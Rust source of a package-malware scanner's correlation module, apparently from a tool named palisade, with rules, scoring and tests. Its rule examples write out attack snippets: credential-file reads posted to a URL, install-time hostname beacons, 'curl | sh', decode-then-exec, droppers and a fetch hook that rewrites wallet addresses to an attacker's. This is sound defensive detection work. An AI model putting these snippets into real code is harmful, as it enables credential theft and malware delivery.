//! Correlation: from what each file can do and what it shows, to findings and points.
//!
//! A capability alone (network, process, environment) weighs nothing: honest code is
//! full of them. Weight comes from a threat indicator or threat in the file, from the
//! combination of a capability with an indicator in the same file (the unit of "code
//! path" here: a file; see the crate's design notes), from where the file runs
//! (install-time code weighs more than package code, which weighs more than tests and
//! docs), and from concealment (behaviour found only after decoding).

use crate::analysers::content::FileContext;
use crate::coderules::Signal;
use crate::source::Role;
use palisade_core::{Category, Ecosystem, RuleInfo, Severity};
use std::collections::BTreeSet;

/// What one file (with the text decoded from it) shows.
#[derive(Debug, Default)]
pub struct FileSignals {
    /// Tags of every rule that matched the file's own text.
    pub tags: BTreeSet<String>,
    /// Tags of rules that matched only in decoded text.
    pub hidden_tags: BTreeSet<String>,
    /// Tags of rules that matched on lines that run at import time (Python module level).
    pub module_level: BTreeSet<String>,
    /// `(signal, severity)` of each distinct rule that matched.
    pub hits: Vec<(Signal, Severity)>,
    /// For Python, whether credential files are named in the same function (or at module
    /// level) as host data or CI token names; `None` where functions are not known.
    pub credentials_with_context_in_one_scope: Option<bool>,
    /// For Python, whether dynamic code runs at import time (module level or a function
    /// called from there) or in the same function as a decoding; `None` where functions
    /// are not known. A decoder in one method of a large module and an `eval` in another
    /// are two library features, not a hidden payload.
    pub exec_near_decode: Option<bool>,
    /// Whether the file's data flow was followed through (Python with functions known,
    /// every scope worth it read within bounds), so that a download that runs is
    /// reported as such (`download-exec`) where one exists.
    pub flow_followed: bool,
    /// Whether a hook of the page's network or wallet functions lies near an address
    /// rewrite; `None` where not measured.
    pub hook_near_swap: Option<bool>,
}

impl FileSignals {
    /// Whether a detached start may run something other than the package's own file
    /// under Node again (an update check): it is not Node again, or the file also
    /// fetches or writes.
    pub fn runs_other(&self) -> bool {
        let fetches = ["network", "file-write", "exe-write", "download-exec"];
        !self.has("node-respawn") || fetches.iter().any(|t| self.has(t))
    }

    pub fn has(&self, tag: &str) -> bool {
        self.tags.contains(tag) || self.hidden_tags.contains(tag)
    }
}

macro_rules! correlation {
    ($name:ident, $id:literal, $sev:ident, $cat:ident, $attack:expr, $summary:literal, $why:literal, $example:literal) => {
        pub static $name: RuleInfo = RuleInfo {
            id: $id,
            category: Category::$cat,
            severity: Severity::$sev,
            summary: $summary,
            why: $why,
            example: $example,
            attack: $attack,
        };
    };
}

correlation!(
    EXFILTRATION,
    "correlate/secrets-and-network",
    High,
    Exfiltration,
    Some("T1041"),
    "Secrets (credential files, token variables, the whole environment, captured keystrokes or screens) and network access in the same file.",
    "Reading secrets is sometimes honest and so is network access; code that does both is how stolen credentials leave the machine, and how a keylogger mails what it captured.",
    "open('~/.aws/credentials').read() ... requests.post(url, data=creds)"
);
correlation!(
    RECON,
    "correlate/host-data-and-network",
    High,
    Exfiltration,
    Some("T1082"),
    "Host or user information and network access in code that runs at install time or as soon as the package is loaded.",
    "Sending the host name and user name home at install time is the signature of dependency-confusion probes and the first step of targeted attacks.",
    "setup.py: requests.get('https://x.oast.fun', params={'h': socket.gethostname()})"
);
correlation!(
    INSTALL_NETWORK,
    "correlate/install-time-network",
    High,
    InstallTime,
    Some("T1195.002"),
    "Install-time or build-time code uses the network.",
    "Code that runs on installation should not phone home or download anything: every machine that installs the package runs it, before anyone has reviewed it.",
    "class PostInstall(install): def run(self): urllib.request.urlopen(URL)"
);
correlation!(
    INSTALL_DOWNLOAD,
    "correlate/install-time-download",
    Medium,
    InstallTime,
    Some("T1195.002"),
    "An npm install script uses the network.",
    "Many npm packages download a prebuilt binary at install time, so this is suspicious rather than damning alone; with host data, secrets or exfiltration endpoints it is how npm malware phones home.",
    "install.js: https.get(binaryUrl, ...)"
);
correlation!(
    IMPORT_TIME_ACTION,
    "correlate/import-time-network",
    High,
    ImportTime,
    Some("T1071"),
    "Code that runs on every import (a Python module body or a function called from there; a Go init() or package-level initialiser; a .NET module initializer) uses the network.",
    "Libraries make network calls when asked to; code that calls out as soon as the package is imported acts on every program that imports it, unasked. Hiding the call in `def run():` and calling `run()` on the last line changes nothing; code under `if __name__ == '__main__':` runs only as a script and does not count.",
    "__init__.py: requests.get('https://x/' + socket.gethostname())"
);
correlation!(
    IMPORT_TIME_BEACON,
    "correlate/import-time-beacon",
    High,
    ImportTime,
    Some("T1071"),
    "Python code that runs on every import calls a host or URL written into the package.",
    "An HTTP client imported at module level is common; a request to a fixed host the moment the package is imported is the package announcing itself, the shape of dependency-confusion beacons and of droppers' first call home.",
    "__init__.py: requests.get('http://collector.example.net/init')"
);
correlation!(
    INSTALL_TIME_BEACON,
    "correlate/install-time-beacon",
    High,
    InstallTime,
    Some("T1071"),
    "Install-time code calls a host or URL written into the package.",
    "A build may fetch what its configuration names; a request from setup.py, a build script or an install hook to a host fixed in the code reports every installation to whoever runs that host, the shape of dependency-confusion probes.",
    "setup.py: requests.get('https://collector.example.net/installed')"
);
correlation!(
    IMPORT_TIME_BACKGROUND,
    "correlate/import-time-background-process",
    Critical,
    ImportTime,
    Some("T1059.006"),
    "Code that runs on every import (a Python module body, a JavaScript module's top level) starts a process of its own: an interpreter given inline code, or a program detached from the importing one or with its window suppressed.",
    "A library has no reason to start a second interpreter, or a detached program, when it is imported; loaders do it so that their payload, often shipped beside it or imported from another package, runs in a process that outlives the import and the program's error handling. Honest code detaches processes inside the functions that need them, never at import.",
    "__init__.py: subprocess.Popen(['python3', '-c', 'from helper import payload'], close_fds=True)"
);
correlation!(
    INSTALL_OVERRIDE,
    "correlate/install-command-runs-code",
    Critical,
    InstallTime,
    Some("T1195.002"),
    "A setup.py install, develop or egg_info command is overridden to run processes, network calls, dynamic code, file writes or imported code.",
    "Overriding the install command is how PyPI malware runs its payload during `pip install`; honest packages customise build steps, not the install command, and rarely spawn programs from it.",
    "class PostInstall(install): def run(self): os.system('...'); install.run(self)"
);
correlation!(
    INSTALL_PROCESS,
    "correlate/install-time-process",
    Medium,
    InstallTime,
    Some("T1059"),
    "Install-time code starts other programs.",
    "Build steps sometimes call compilers, but droppers and probes start shells from setup.py, npm scripts and build.rs too.",
    "setup.py: os.system('curl ... | sh')"
);
correlation!(
    INSTALL_EXEC,
    "correlate/install-time-dynamic-code",
    Medium,
    InstallTime,
    Some("T1059.006"),
    "Install-time code runs dynamically built code (exec, eval).",
    "Install hooks that evaluate code they build at run time are hiding what they do from the reader of the hook.",
    "setup.py: exec(some_variable)"
);
correlation!(
    DECODE_EXEC,
    "correlate/decode-then-execute",
    High,
    Concealment,
    Some("T1027"),
    "The same file decodes data and executes dynamic code.",
    "Decoding followed by exec or eval is the commonest way to smuggle a payload past review.",
    "data = base64.b64decode(blob); exec(data)"
);
correlation!(
    HIDDEN_BEHAVIOUR,
    "correlate/hidden-behaviour",
    Critical,
    Concealment,
    Some("T1027"),
    "Behaviour (network, processes, code execution, secrets) appears only after decoding: inside an encoded literal, or in identifiers written in look-alike letters.",
    "Honest code has no reason to encode what it does; capabilities found only in decoded text were hidden on purpose.",
    "exec(base64.b64decode('aW1wb3J0IHNvY2tldC...'))  # decodes to a reverse shell"
);
correlation!(
    DOWNLOAD_RUN,
    "correlate/download-write-run",
    High,
    Download,
    Some("T1105"),
    "The same file downloads, writes files and starts programs.",
    "Fetch, write, run is the shape of a dropper installing a second stage.",
    "urlretrieve(url, p); os.chmod(p, 0o755); subprocess.Popen([p])"
);
correlation!(
    OBFUSCATED_ACTION,
    "correlate/obfuscated-code-with-capabilities",
    High,
    Concealment,
    Some("T1027"),
    "Obfuscated code in a file that also uses the network, processes or dynamic execution.",
    "Obfuscation is rare in published source; combined with the ability to act it hides what that action is.",
    "var _0x3a=['\\x68\\x74\\x74\\x70'];require(_0x1f(0x0))[_0x1f(0x1)](...)"
);

correlation!(
    FUNCTION_DROPPER,
    "correlate/function-download-write-run",
    High,
    Download,
    Some("T1105"),
    "One function downloads, writes a file and starts a program or sets one to start (autostart, shell start-up files).",
    "Fetch, write and run (now, or at the next login) in the same function is a dropper installing a second stage; honest code that does all three keeps them in separate places.",
    "def update(): data = urlopen(URL).read(); open(p, 'wb').write(data); subprocess.Popen([p])"
);
correlation!(
    FUNCTION_FIXED_HOST_DROPPER,
    "correlate/function-runs-program-from-fixed-host",
    Critical,
    Download,
    Some("T1105"),
    "One function downloads from a host written into it, writes the file and starts that same file or sets it to start.",
    "An updater or installer downloads what its caller or its configuration names; a function that fetches from a URL fixed in the package, saves it and runs it is a dropper whose second stage nobody can review.",
    "def color(): r = requests.get('https://cdn.example.net/x'); open(p, 'wb').write(r.content); subprocess.run([p])"
);
correlation!(
    FUNCTION_EXE_DROPPER,
    "correlate/function-runs-downloaded-program",
    High,
    Download,
    Some("T1105"),
    "One function downloads, saves the download under a Windows program's name (.exe, .scr, .bat, .vbs, .ps1) and starts it.",
    "Fetching a program, saving it and starting it in one place is the whole of a Windows dropper. Both this rule and the fixed-host one fire only when the data flow shows that what starts is the downloaded file: youtube-dl's updater downloads the new program but starts a helper script it wrote itself.",
    "def update(url): urlretrieve(url, 'helper.exe'); subprocess.run(['helper.exe'])"
);
correlation!(
    FUNCTION_RECON,
    "correlate/function-host-data-to-network",
    High,
    Exfiltration,
    Some("T1082"),
    "One function collects host or user data (or the whole environment) and makes a network request.",
    "Gathering the host name, user name or environment and sending them out in one function is how probes and stealers report home.",
    "def ping(): urlopen(URL + '?h=' + socket.gethostname() + '&u=' + getpass.getuser())"
);
correlation!(
    FUNCTION_EXFILTRATION,
    "correlate/function-secrets-to-network",
    High,
    Exfiltration,
    Some("T1041"),
    "One function reads credential files or secret stores and makes a network request.",
    "Reading `~/.aws/credentials` or a browser's cookie store and sending a request in the same function is how stolen secrets leave the machine; honest tools that read credentials use them to authenticate, through a client library, not beside a raw request.",
    "def grab(): data = open(os.path.expanduser('~/.aws/credentials')).read(); requests.post(URL, data=data)"
);
correlation!(
    FUNCTION_FETCH_EXEC,
    "correlate/function-fetch-then-execute",
    Critical,
    Execution,
    Some("T1059.006"),
    "One function fetches data from the network and executes dynamic code.",
    "Downloading text and running it as code in one function is a download cradle: the code that runs is whatever the server sends that day, never what was reviewed.",
    "def main(): code = urlopen(URL).read().decode(); exec(compile(code, 'x', 'exec'))"
);
correlation!(
    FUNCTION_DECODE_EXEC,
    "correlate/function-decode-then-execute",
    High,
    Concealment,
    Some("T1027"),
    "One function decodes data and executes dynamic code.",
    "Decoding followed by exec in the same function smuggles a payload past review.",
    "def load(b): exec(base64.b64decode(b))"
);

correlation!(
    INSTALL_BACKGROUND,
    "correlate/install-time-background-process",
    High,
    InstallTime,
    Some("T1059"),
    "Install-time code starts a program detached from the install, so that it outlives it.",
    "A build step waits for the compiler it starts; a program started detached from an install script keeps running after `npm install` or `pip install` has returned, out of sight: how droppers start their second stage.",
    "install.js: spawn(target, [], { detached: true, stdio: 'ignore' }).unref()"
);
correlation!(
    WALLET_HIJACK,
    "correlate/wallet-traffic-hijack",
    Critical,
    Persistence,
    Some("T1565.002"),
    "The same code replaces the page's network or wallet functions and, within 4 KB, rewrites cryptocurrency addresses, in a file that writes out addresses of its own.",
    "Hooking fetch, XMLHttpRequest or the wallet provider and replacing every address in what passes through is a wallet drainer: the payment goes to the attacker while the page shows nothing amiss. It is what the September 2025 compromise of widely used npm packages injected into their builds.",
    "window.fetch = async (...a) => new Response((await f(...a)).text().replace(/0x[a-fA-F0-9]{40}/g, ATTACKER))"
);

correlation!(
    SETUP_NETWORK,
    "correlate/setup-py-network",
    High,
    InstallTime,
    Some("T1195.002"),
    "A Python package's install-time code (setup.py, build backend, .pth) uses the network.",
    "Probes and droppers make requests from setup.py on every machine that runs pip install. Honest builds do too, if rarely (native libraries whose sources or binaries the build downloads), so alone it makes a package suspicious; what the request sends or what runs of what it got (host data, a fixed host, a download that runs, a response run as a command) makes it malicious.",
    "setup.py: urllib.request.urlopen('https://x.example/?h=' + socket.gethostname())"
);

pub static ALL: &[&RuleInfo] = &[
    &FUNCTION_DROPPER,
    &FUNCTION_FIXED_HOST_DROPPER,
    &FUNCTION_EXE_DROPPER,
    &FUNCTION_FETCH_EXEC,
    &FUNCTION_RECON,
    &FUNCTION_EXFILTRATION,
    &FUNCTION_DECODE_EXEC,
    &EXFILTRATION,
    &RECON,
    &INSTALL_NETWORK,
    &SETUP_NETWORK,
    &INSTALL_DOWNLOAD,
    &IMPORT_TIME_ACTION,
    &IMPORT_TIME_BEACON,
    &INSTALL_TIME_BEACON,
    &IMPORT_TIME_BACKGROUND,
    &INSTALL_OVERRIDE,
    &INSTALL_PROCESS,
    &INSTALL_EXEC,
    &DECODE_EXEC,
    &HIDDEN_BEHAVIOUR,
    &DOWNLOAD_RUN,
    &OBFUSCATED_ACTION,
    &INSTALL_BACKGROUND,
    &WALLET_HIJACK,
];

/// Most a file can weigh, before its role weight, on capabilities and their placement
/// alone (install-time network, module-level calls): suspicious, never malicious.
pub const PLACEMENT_ONLY_CAP: f64 = 3.5;

/// Whether a correlation points at intent (a threat indicator, hiding, harvesting)
/// rather than only at where a capability runs.
pub fn is_indicative(rule: &RuleInfo) -> bool {
    ![
        INSTALL_NETWORK.id,
        SETUP_NETWORK.id,
        INSTALL_DOWNLOAD.id,
        IMPORT_TIME_ACTION.id,
        INSTALL_PROCESS.id,
        INSTALL_EXEC.id,
    ]
    .contains(&rule.id)
}

/// The correlations that hold within one function body, given the tags of the code in it.
pub fn function_correlations(tags: &BTreeSet<String>) -> Vec<&'static RuleInfo> {
    let has = |t: &str| tags.contains(t);
    let mut out: Vec<&'static RuleInfo> = Vec::new();
    // Starting the file, or setting it to start with the next shell or login.
    let runs = has("process") || has("persistence");
    if has("network") && has("file-write") && runs {
        out.push(&FUNCTION_DROPPER);
        if (has("url-literal") || has("fixed-endpoint")) && has("runs-download") {
            out.push(&FUNCTION_FIXED_HOST_DROPPER);
        }
        if has("exe-name") && has("runs-download") {
            out.push(&FUNCTION_EXE_DROPPER);
        }
    }
    if has("network") && (has("sysinfo") || has("env-dump")) {
        out.push(&FUNCTION_RECON);
    }
    if has("network") && (has("credentials") || has("stealer")) {
        out.push(&FUNCTION_EXFILTRATION);
    }
    if has("decode") && has("exec") {
        out.push(&FUNCTION_DECODE_EXEC);
    }
    if has("network") && has("exec") {
        out.push(&FUNCTION_FETCH_EXEC);
    }
    out
}

/// The tags whose evidence best shows a correlation to a reader.
pub fn evidence_tags(rule: &RuleInfo) -> &'static [&'static str] {
    match rule.id {
        id if id == EXFILTRATION.id || id == FUNCTION_EXFILTRATION.id => {
            &["stealer", "env-dump", "credentials", "ci-tokens", "spyware"]
        }
        id if id == RECON.id || id == FUNCTION_RECON.id => &["sysinfo", "env-dump"],
        id if id == SETUP_NETWORK.id => &["network"],
        id if id == IMPORT_TIME_BEACON.id || id == INSTALL_TIME_BEACON.id => &["fixed-endpoint"],
        id if id == IMPORT_TIME_BACKGROUND.id => &["inline-code", "detached", "hidden-window"],
        id if id == INSTALL_BACKGROUND.id => &["detached"],
        id if id == WALLET_HIJACK.id => &["address-swap", "api-hook"],
        id if id == FUNCTION_DROPPER.id => &["file-write", "process", "persistence"],
        id if id == FUNCTION_FIXED_HOST_DROPPER.id => &["url-literal", "fixed-endpoint"],
        id if id == FUNCTION_EXE_DROPPER.id => &["exe-name"],
        id if id == FUNCTION_DECODE_EXEC.id => &["exec", "decode"],
        id if id == FUNCTION_FETCH_EXEC.id => &["exec", "network"],
        id if id == INSTALL_PROCESS.id => &["process"],
        id if id == INSTALL_EXEC.id || id == DECODE_EXEC.id => &["exec"],
        id if id == INSTALL_OVERRIDE.id => &["install-override"],
        id if id == OBFUSCATED_ACTION.id => &["obfuscation"],
        id if id == DOWNLOAD_RUN.id => &["download-exec", "exe-write", "file-write"],
        id if id == HIDDEN_BEHAVIOUR.id => &[
            "network",
            "process",
            "exec",
            "credentials",
            "download-exec",
            "payload",
        ],
        _ => &["network"],
    }
}

/// Points a matching rule adds to its file, before the role weight.
pub fn rule_points(signal: Signal, severity: Severity) -> f64 {
    match (signal, severity) {
        (Signal::Capability, _) => 0.0,
        (Signal::Indicator, Severity::Info) => 0.0,
        (Signal::Indicator, Severity::Low) => 0.5,
        (Signal::Indicator, Severity::Medium) => 1.5,
        (Signal::Indicator, Severity::High) => 3.0,
        (Signal::Indicator, Severity::Critical) => 5.0,
        (Signal::Threat, Severity::Critical) => 8.0,
        (Signal::Threat, Severity::High) => 6.0,
        (Signal::Threat, _) => 4.0,
    }
}

/// Points of a correlation finding, before the role weight.
pub fn correlation_points(rule: &RuleInfo) -> f64 {
    match rule.severity {
        // Critical combinations (behaviour hidden by encoding, an install command that
        // runs code) decide alone in package code, like critical threats.
        Severity::Critical => 6.0,
        Severity::High => 3.5,
        Severity::Medium => 2.0,
        _ => 0.5,
    }
}

/// The correlations that hold for a file in a given role.
pub fn correlations(signals: &FileSignals, context: &FileContext) -> Vec<&'static RuleInfo> {
    let (role, ecosystem) = (context.role, context.ecosystem);
    let mut out: Vec<&'static RuleInfo> = Vec::new();
    let network = signals.has("network");
    let install = matches!(role, Role::Install | Role::Build);
    let import_network = signals.module_level.contains("network");
    let host_data = signals.has("sysinfo") || signals.has("env-dump");
    // A credential file's name next to host data is a stealer's inventory; in a Python
    // module of two thousand lines (distlib's `.pypirc` reader beside its platform
    // checks) it is only when one function or the module body holds both.
    let credentials_in_context = signals
        .credentials_with_context_in_one_scope
        .unwrap_or_else(|| {
            signals.has("credentials") && (signals.has("sysinfo") || signals.has("ci-tokens"))
        });
    let secrets = signals.has("stealer")
        || signals.has("env-dump")
        || signals.has("spyware")
        || credentials_in_context;
    if network && secrets {
        out.push(&EXFILTRATION);
    }
    if network && host_data && (install || import_network || context.confusion_shape) {
        out.push(&RECON);
    }
    if install && signals.has("fixed-endpoint") {
        out.push(&INSTALL_TIME_BEACON);
    }
    if install && network {
        out.push(match ecosystem {
            Some(Ecosystem::Npm) => &INSTALL_DOWNLOAD,
            Some(Ecosystem::PyPI) => &SETUP_NETWORK,
            _ => &INSTALL_NETWORK,
        });
    }
    if import_network && !install {
        out.push(&IMPORT_TIME_ACTION);
        if signals.module_level.contains("fixed-endpoint") {
            out.push(&IMPORT_TIME_BEACON);
        }
    }
    // An update check that re-runs node on the package's own file, detached, fetches
    // nothing itself; a dropper's detached program is a shipped binary, or what the same
    // file fetched or wrote.
    if install && signals.has("detached") && signals.runs_other() {
        out.push(&INSTALL_BACKGROUND);
    }
    // The drainer's own accounts are written in it; an explorer's linkifier beside a
    // fetch polyfill rewrites addresses into links, to no account of its own.
    if signals.has("api-hook")
        && signals.has("address-swap")
        && signals.has("address-literal")
        && signals.hook_near_swap.unwrap_or(true)
    {
        out.push(&WALLET_HIJACK);
    }
    // A window suppressed at import hides a program as well as detaching it does; at
    // install, build tools are started that way by honest setup scripts.
    let background = ["inline-code", "detached", "hidden-window"];
    if background.iter().any(|t| signals.module_level.contains(*t)) && !install {
        out.push(&IMPORT_TIME_BACKGROUND);
    }
    let acts = signals.has("process")
        || network
        || signals.has("exec")
        || signals.has("file-write")
        || signals.has("deferred-import");
    // A test that writes a setup.py with an overridden command into a temporary folder
    // installs nothing; the override matters in code that runs.
    if signals.has("install-override") && acts && role != Role::Auxiliary {
        out.push(&INSTALL_OVERRIDE);
    } else {
        if install && signals.has("process") {
            out.push(&INSTALL_PROCESS);
        }
        if install && signals.has("exec") {
            out.push(&INSTALL_EXEC);
        }
    }
    if signals.tags.contains("exec")
        && signals.tags.contains("decode")
        && signals.exec_near_decode.unwrap_or(true)
    {
        out.push(&DECODE_EXEC);
    }
    let acting = [
        "network",
        "process",
        "exec",
        "credentials",
        "env-dump",
        "download-exec",
        "remote-shell",
        "persistence",
        "sysinfo",
    ];
    if acting.iter().any(|t| signals.hidden_tags.contains(*t)) {
        out.push(&HIDDEN_BEHAVIOUR);
    }
    // Where the data flow was followed, a build that downloads a source archive,
    // unpacks it and runs a compiler is not a dropper: the dropper is the download that
    // runs (`download-exec`), which the flow reports where it happens.
    // A Go file built by cgo is build-time code, but only what `init` runs acts on
    // import; a cgo file with a download helper and a `git` call is no dropper.
    let placed = if ecosystem == Some(Ecosystem::Go) {
        import_network
    } else {
        install || import_network
    };
    let dropper = (placed && !signals.flow_followed)
        || signals.has("download-exec")
        || signals.has("exe-write")
        || signals.has("obfuscation");
    if network && signals.has("file-write") && signals.has("process") && dropper {
        out.push(&DOWNLOAD_RUN);
    }
    if signals.has("obfuscation") && (network || signals.has("process") || signals.has("exec")) {
        out.push(&OBFUSCATED_ACTION);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn signals(tags: &[&str], hidden: &[&str]) -> FileSignals {
        FileSignals {
            tags: tags.iter().map(|s| s.to_string()).collect(),
            hidden_tags: hidden.iter().map(|s| s.to_string()).collect(),
            module_level: Default::default(),
            hits: Vec::new(),
            credentials_with_context_in_one_scope: None,
            exec_near_decode: None,
            flow_followed: false,
            hook_near_swap: None,
        }
    }

    fn ids(s: &FileSignals, role: Role) -> Vec<&'static str> {
        let context = FileContext {
            role,
            ecosystem: Some(Ecosystem::PyPI),
            confusion_shape: false,
            on_demand_lines: Vec::new(),
            structure: None,
            foreign_bytecode: None,
        };
        correlations(s, &context).iter().map(|r| r.id).collect()
    }

    #[test]
    fn capabilities_alone_correlate_to_nothing_in_package_code() {
        assert!(
            ids(
                &signals(&["network", "process", "env", "sysinfo"], &[]),
                Role::Import
            )
            .is_empty()
        );
    }

    #[test]
    fn the_same_capabilities_at_install_time_do() {
        let found = ids(&signals(&["network", "sysinfo"], &[]), Role::Install);
        assert!(found.contains(&"correlate/setup-py-network"));
        assert!(found.contains(&"correlate/host-data-and-network"));
    }

    #[test]
    fn secrets_with_network_and_hidden_behaviour_anywhere() {
        assert_eq!(
            ids(&signals(&["network", "stealer"], &[]), Role::Import),
            ["correlate/secrets-and-network"]
        );
        assert!(ids(&signals(&["network", "credentials"], &[]), Role::Import).is_empty());
        // A keylogger that mails what it captured.
        assert_eq!(
            ids(&signals(&["network", "spyware"], &[]), Role::Import),
            ["correlate/secrets-and-network"]
        );
        assert_eq!(
            ids(&signals(&[], &["process"]), Role::Auxiliary),
            ["correlate/hidden-behaviour"]
        );
    }

    #[test]
    fn a_build_that_downloads_and_compiles_is_a_dropper_only_where_the_flow_says_so() {
        let build = ["network", "file-write", "process"];
        let mut followed = signals(&build, &[]);
        followed.flow_followed = true;
        assert!(!ids(&followed, Role::Install).contains(&DOWNLOAD_RUN.id));
        followed.tags.insert("download-exec".into());
        assert!(ids(&followed, Role::Install).contains(&DOWNLOAD_RUN.id));
        // Where no flow was followed (a shell script, a Ruby extconf), placement decides.
        assert!(ids(&signals(&build, &[]), Role::Install).contains(&DOWNLOAD_RUN.id));
    }
}
